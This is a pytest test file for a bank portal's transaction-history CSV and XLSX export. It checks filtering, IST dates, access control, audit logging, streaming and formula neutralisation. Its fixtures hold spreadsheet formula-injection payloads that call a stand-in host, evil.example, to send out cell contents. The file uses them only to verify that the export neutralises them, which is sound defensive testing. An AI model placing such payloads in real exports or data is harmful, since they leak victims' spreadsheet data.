"""The history export (/accounts/<id>/history/export.csv and .xlsx): exactly the filtered rows of
`history_entries`, in its order, amounts with two decimals, dates in India, formula injection neutralised,
streamed from a server-side cursor in constant memory."""

import csv
import datetime
import io
import re
import tracemalloc
import uuid
import zipfile
from decimal import Decimal
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command
from django.db import connection
from django.http import QueryDict, StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from accounts.models import Account
from portal.models import AuditEvent
from portal.seeding.history import posted_at
from tests.factories import AccountFactory
from transactions import services
from transactions.history import export
from transactions.history.filters import HistoryFilter
from transactions.history.forms import read_history_query
from transactions.history.selectors import history_entries
from transactions.models import Category

IST = ZoneInfo("Asia/Kolkata")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
INJECTIONS = [f'{c}HYPERLINK("http://evil.example/?x="&A1,"Refund")' for c in TRIGGERS]


def _pay(account, paise, description, counterparty="", category=None, when=None):
    with posted_at(when):
        services.payment_create(
            account=account,
            amount_paise=paise,
            description=description,
            counterparty=counterparty,
            category=category,
            idempotency_key=str(uuid.uuid4()),
        )


def _receive(account, paise, description, counterparty="", category=None, when=None):
    with posted_at(when):
        services.deposit_create(
            account=account,
            amount_paise=paise,
            description=description,
            counterparty=counterparty,
            category=category,
            idempotency_key=str(uuid.uuid4()),
        )


@pytest.fixture
def history(alice) -> Account:
    """Alice's savings with a varied history since January 2026 (IST dates chosen near midnight, where UTC
    and India disagree on the day), ending in payments whose text would be a formula in a spreadsheet."""
    account = AccountFactory(owner=alice, name="Savings", kind=Account.Kind.SAVINGS)
    opened = datetime.datetime(2025, 12, 31, 9, 0, tzinfo=IST)
    _receive(account, 50_000_00, "Opening deposit", when=opened)
    start = datetime.datetime(2026, 1, 1, 23, 45, tzinfo=IST)
    for i in range(12):
        when = start + datetime.timedelta(days=7 * i, minutes=i)
        _pay(account, 250_00 + i * 101, f"Big Bazaar {i}", "Big Bazaar", "groceries", when)
        _pay(account, 99_05, "Chai", "Chaayos", "dining", when + datetime.timedelta(hours=1))
        if i % 3 == 0:
            _receive(account, 45_000_00, "Salary", "Acme Ltd", "salary", when + datetime.timedelta(hours=2))
    same = datetime.datetime(2026, 4, 2, 10, 0, tzinfo=IST)  # several postings at one moment: ties on id
    for i, text in enumerate(INJECTIONS):
        _pay(account, 10_00 + i, text, counterparty=text, when=same)
    _pay(account, 1_234_50, "Rent", "-Landlord", "rent", same + datetime.timedelta(minutes=1))
    account.refresh_from_db()
    return account


@pytest.fixture
def signed_in(alice) -> Client:
    client = Client()
    client.force_login(alice)
    return client


def csv_url(account: Account) -> str:
    return reverse("history_export_csv", kwargs={"pk": account.pk})


def xlsx_url(account: Account) -> str:
    return reverse("history_export_xlsx", kwargs={"pk": account.pk})


def read_csv(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def money(paise: int) -> str:
    return f"{Decimal(paise) / 100:.2f}"


def expected_rows(account: Account, query: str) -> list[list[str]]:
    """What the export must hold for `query`, from the selector the page uses, formatted independently."""
    asked = read_history_query(
        QueryDict(query), categories=list(Category.objects.values_list("slug", "name"))
    )
    assert not asked.invalid
    filter = asked.filter
    rows = []
    entries = history_entries(account=account, filter=filter)
    for entry in entries.select_related("transaction__category", "customer_category__category"):
        # The category the customer sees: their own, else the bank's, else Other (an uncategorised entry).
        mine = getattr(entry, "customer_category", None)
        bank = entry.transaction.category
        category = mine.category.name if mine else bank.name if bank else "Other"
        rows.append(
            [
                entry.created.astimezone(IST).strftime("%Y-%m-%d %H:%M"),
                entry.transaction.reference,
                entry.txn_description,
                entry.txn_counterparty,
                category,
                money(-entry.amount) if entry.amount < 0 else "",
                money(entry.amount) if entry.amount > 0 else "",
                money(entry.balance_after),
            ]
        )
    return rows


def unneutralised(row: list[str]) -> list[str]:
    return [cell[1:] if cell.startswith("'") and cell[1:2] in TRIGGERS else cell for cell in row]


QUERIES = [
    "",
    "direction=debit",
    "direction=credit",
    "amount_min=100&amount_max=2,000",
    "date_from=2026-01-02&date_to=2026-02-12",
    "q=category:groceries+category:salary",
    "text=bazaar",
    "q=chai",
    "direction=debit&date_from=2026-03-01&text=big",
]


@pytest.mark.parametrize("query", QUERIES)
def test_it_exports_exactly_the_filtered_rows_in_history_order(history, signed_in, query):
    response = signed_in.get(f"{csv_url(history)}?{query}")

    assert response.status_code == 200
    header, *rows = read_csv(response)
    assert header == list(export.HEADER)
    expected = expected_rows(history, query)
    assert expected, "each filter must select something"
    assert [unneutralised(row) for row in rows] == expected


def test_it_exports_every_row_of_an_unfiltered_history(history, signed_in):
    _, *rows = read_csv(signed_in.get(csv_url(history)))
    assert len(rows) == history.entries.count() == 12 * 2 + 4 + len(INJECTIONS) + 1 + 1  # + opening deposit
    assert rows[0][1] > rows[-1][1]  # newest first


def test_it_writes_amounts_with_two_decimals_and_dates_in_india(history, signed_in):
    _, *rows = read_csv(signed_in.get(csv_url(history), {"text": "Rent"}))
    assert rows == [
        [
            "2026-04-02 10:01",
            rows[0][1],
            "Rent",
            "'-Landlord",
            "Rent",
            "1234.50",
            "",
            money(history.balance),
        ]
    ]
    new_year = {"date_from": "2026-01-01", "date_to": "2026-01-01"}
    _, *first = read_csv(signed_in.get(csv_url(history), new_year))
    # 23:45 in India on 1 January is 18:15 UTC the same day; 1 January 2026 in India holds only that payment.
    assert [row[0] for row in first] == ["2026-01-01 23:45"]
    assert first[0][5] == "250.00"
    _, *chai = read_csv(signed_in.get(csv_url(history), {"q": "Chai", "date_to": "2026-01-02"}))
    assert chai[0][0] == "2026-01-02 00:45" and chai[0][5] == "99.05"  # the next day in India


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_it_neutralises_a_formula_in_the_csv(history, signed_in, trigger):
    text = INJECTIONS[TRIGGERS.index(trigger)]
    rows = read_csv(signed_in.get(csv_url(history)))
    (row,) = [row for row in rows if row[2].endswith(text)]
    assert row[2] == row[3] == "'" + text


def test_it_leaves_negative_balances_as_numbers(alice, signed_in):
    current = AccountFactory(owner=alice, name="Current", kind=Account.Kind.CURRENT, overdraft_limit=1_000_00)
    _pay(current, 500_25, "Overdrawn", when=datetime.datetime(2026, 1, 5, 12, 0, tzinfo=IST))
    _receive(current, 5, "Interest", when=datetime.datetime(2026, 1, 6, 12, 0, tzinfo=IST))
    _, newer, older = read_csv(signed_in.get(csv_url(current)))
    assert older[5:] == ["500.25", "", "-500.25"]
    assert newer[5:] == ["", "0.05", "-500.20"]


def test_it_names_the_file_by_the_account_and_the_day(history, signed_in):
    response = signed_in.get(csv_url(history))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    day = datetime.datetime.now(IST).date().isoformat()
    name = f"securebank-{history.number[-4:]}-history-{day}.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert "no-store" in response["Cache-Control"]


def test_it_refuses_an_invalid_filter_with_a_400_naming_it(history, signed_in):
    for url in (csv_url(history), xlsx_url(history)):
        response = signed_in.get(url, {"date_from": "2026-02-30", "amount_min": "abc", "text": "rent"})

        assert response.status_code == 400
        assert not isinstance(response, StreamingHttpResponse)
        body = response.content.decode()
        assert "We did not make this export" in body
        assert "From date:</strong> Enter a real date, like 2026-01-31." in body
        assert "Smallest amount:</strong> Enter an amount in rupees, like 1500 or 1,500.50." in body
    assert not AuditEvent.objects.filter(action="history.export").exists()


def test_it_refuses_a_parameter_it_does_not_know_rather_than_export_everything(history, signed_in):
    response = signed_in.get(csv_url(history), {"words": "rent", "cursor": "x", "size": "50"})

    assert response.status_code == 400
    assert "words:</strong> The history page has no such filter." in response.content.decode()
    assert signed_in.get(csv_url(history), {"text": "rent", "cursor": "x", "size": "50"}).status_code == 200


def test_it_answers_404_for_another_customers_account(history, bob, bob_savings):
    client = Client()
    client.force_login(bob)
    for url in (csv_url(history), xlsx_url(history)):
        assert client.get(url).status_code == 404
    assert client.get(csv_url(bob_savings)).status_code == 200


def test_it_sends_anonymous_visitors_to_sign_in(history, client):
    response = client.get(csv_url(history))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_it_takes_only_get(history, signed_in):
    assert signed_in.post(csv_url(history)).status_code == 405


def test_it_records_the_export_and_its_filter_in_the_audit_trail(history, signed_in):
    read_csv(signed_in.get(csv_url(history), {"direction": "debit", "q": "chai"}))
    signed_in.get(xlsx_url(history))

    csv_event, xlsx_event = AuditEvent.objects.filter(action="history.export").order_by("seq")
    assert csv_event.actor_id == history.owner_id
    assert (csv_event.object_type, csv_event.object_id) == ("accounts.account", str(history.pk))
    assert csv_event.after == {"format": "csv", "filter": {"direction": "debit", "words": "chai"}}
    assert xlsx_event.after == {"format": "xlsx", "filter": {}}


def test_it_limits_exports_per_customer(history, signed_in, settings):
    settings.RATE_LIMITS = {**settings.RATE_LIMITS, "history_export": (2, 3600)}
    assert signed_in.get(csv_url(history)).status_code == 200
    assert signed_in.get(xlsx_url(history)).status_code == 200
    assert signed_in.get(csv_url(history), {"amount_min": "x"}).status_code == 400  # not counted

    refused = signed_in.get(csv_url(history))

    assert refused.status_code == 429
    assert int(refused["Retry-After"]) > 0
    assert AuditEvent.objects.filter(action="history.export").count() == 2


# --- streaming --------------------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)  # as served: autocommit, no test transaction around the request
def test_it_reads_rows_from_a_server_side_cursor_inside_a_transaction(history, signed_in, monkeypatch):
    monkeypatch.setattr(export, "CHUNK", 5)
    response = signed_in.get(csv_url(history))
    chunks = iter(response.streaming_content)
    next(chunks)  # the header
    first = next(chunks)  # five rows, the cursor still open for the rest

    with connection.cursor() as cursor:
        cursor.execute("SELECT name, is_holdable FROM pg_cursors WHERE name LIKE '_django_curs_%%'")
        cursors = cursor.fetchall()
    assert len(cursors) == 1
    assert cursors[0][1] is False  # not WITH HOLD: read as it goes, not computed whole before the first row
    assert first.count(b"\n") == 5
    rest = b"".join(chunks)
    assert (first + rest).count(b"\n") == history.entries.count()


def test_it_reads_by_keyset_where_server_side_cursors_are_off(history, signed_in, monkeypatch):
    expected = read_csv(signed_in.get(csv_url(history)))
    monkeypatch.setattr(export, "CHUNK", 3)  # pages that end inside the postings of one moment
    monkeypatch.setitem(connection.settings_dict, "DISABLE_SERVER_SIDE_CURSORS", True)

    assert read_csv(signed_in.get(csv_url(history))) == expected
    header, *rows = expected
    debits = [header, *(row for row in rows if row[6] == "")]
    assert read_csv(signed_in.get(csv_url(history), {"direction": "debit"})) == debits


@pytest.mark.django_db(transaction=True)
def test_it_streams_20000_rows_in_far_less_memory_than_they_take_in_a_list(settings):
    settings.SETTLEMENT_SHARDS = 1
    call_command("seed_scale", "--customers", "4", "--entries", "40000", "--hot-entries", "20000")
    hot = Account.objects.get(owner__email="merchant@scale.securebank.test", kind=Account.Kind.CURRENT)
    client = Client()
    client.force_login(hot.owner)
    filter = HistoryFilter()

    tracemalloc.start()
    try:
        listed = list(history_entries(account=hot, filter=filter))
        list_peak = tracemalloc.get_traced_memory()[1]
        del listed
        tracemalloc.reset_peak()
        baseline = tracemalloc.get_traced_memory()[0]
        response = client.get(csv_url(hot))
        lines = sum(chunk.count(b"\n") for chunk in response.streaming_content)
        stream_peak = tracemalloc.get_traced_memory()[1] - baseline
    finally:
        tracemalloc.stop()

    assert lines == 20_001
    assert stream_peak < list_peak / 5, (stream_peak, list_peak)


# --- XLSX -------------------------------------------------------------------------------------------------

_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def read_xlsx(response) -> tuple[list[list], str]:
    """The sheet's rows as Python values (inline strings as text, numbers as Decimal), read with the
    standard library; and the sheet's XML."""
    body = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        assert book.testzip() is None
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    rows = []
    sheet = ElementTree.fromstring(xml)  # noqa: S314 - the portal's own output, in a test
    for row in sheet.iterfind("m:sheetData/m:row", _NS):
        cells: list = [None] * 8
        for cell in row.iterfind("m:c", _NS):
            column = ord(cell.get("r")[0]) - ord("A")
            if cell.get("t") == "inlineStr":
                text = "".join(t.text or "" for t in cell.iterfind(".//m:t", _NS))
                # OOXML writes control characters as _xHHHH_ (a carriage return: _x000D_).
                cells[column] = re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), text)
            else:
                cells[column] = Decimal(cell.find("m:v", _NS).text)
        rows.append(cells)
    return rows, xml


def excel_time(serial: Decimal) -> str:
    """A date cell (days since Excel's epoch, wall time: India's here) to the nearest minute."""
    moment = datetime.datetime(1899, 12, 30, tzinfo=IST) + datetime.timedelta(days=float(serial))
    return (moment + datetime.timedelta(seconds=30)).strftime("%Y-%m-%d %H:%M")


@pytest.mark.parametrize("query", ["", "direction=credit", "q=chai&date_from=2026-02-01"])
def test_it_exports_the_same_rows_as_xlsx(history, signed_in, query):
    response = signed_in.get(f"{xlsx_url(history)}?{query}")

    assert response.status_code == 200
    assert response["Content-Type"] == export.XLSX_TYPE
    assert response["Content-Disposition"].startswith('attachment; filename="securebank-')
    day = datetime.datetime.now(IST).date()
    assert response["Content-Disposition"].endswith(f'-history-{day}.xlsx"')
    (header, *rows), _xml = read_xlsx(response)
    assert header == list(export.HEADER)
    expected = expected_rows(history, query)
    got = [
        [
            excel_time(row[0]),
            row[1],
            row[2],
            row[3],
            row[4] or "",
            *("" if n is None else f"{n:.2f}" for n in row[5:]),
        ]
        for row in rows
    ]
    assert [unneutralised(row) for row in got] == expected


def test_it_writes_formulas_as_neutralised_text_in_xlsx(history, signed_in):
    rows, xml = read_xlsx(signed_in.get(xlsx_url(history)))
    assert "<f>" not in xml and "<f " not in xml
    for text in INJECTIONS:
        (row,) = [row for row in rows if isinstance(row[2], str) and row[2].endswith(text)]
        assert row[2] == row[3] == "'" + text
    (rent,) = [row for row in rows if row[2] == "Rent"]
    assert rent[3] == "'-Landlord" and rent[5] == Decimal("1234.5")


def test_it_refuses_an_xlsx_beyond_its_cap_before_building_it(history, signed_in, monkeypatch):
    monkeypatch.setattr(export, "XLSX_MAX_ROWS", history.entries.count() - 1)
    response = signed_in.get(xlsx_url(history))
    assert response.status_code == 400
    assert "more than a spreadsheet download holds (100,000 rows)" in response.content.decode()
    assert not AuditEvent.objects.filter(action="history.export").exists()

    monkeypatch.setattr(export, "XLSX_MAX_ROWS", history.entries.count())
    assert signed_in.get(xlsx_url(history)).status_code == 200
